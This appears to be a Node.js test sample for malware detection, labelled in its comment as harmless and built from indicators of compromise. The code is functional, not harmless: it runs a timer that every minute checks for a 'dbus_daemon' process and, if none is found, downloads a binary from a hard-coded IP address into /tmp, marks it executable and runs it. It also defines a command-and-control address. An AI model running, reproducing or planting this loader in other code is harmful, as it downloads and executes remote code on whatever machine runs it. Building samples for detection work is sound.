// harmless test sample built from seed 001's IOCs (strings only; never run it)
const { execSync } = require("child_process");
function tick() {
  try { execSync("ps aux | grep dbus_daemon | grep -v grep"); return; } catch (e) {}
  try { execSync("command -v curl"); } catch (e) { return; }
  execSync("curl -s http://77.110.110.55/d -o /tmp/dbus_daemon && chmod +x /tmp/dbus_daemon && /tmp/dbus_daemon");
}
const c2 = "72.62.186.16";
setInterval(tick, 60000);
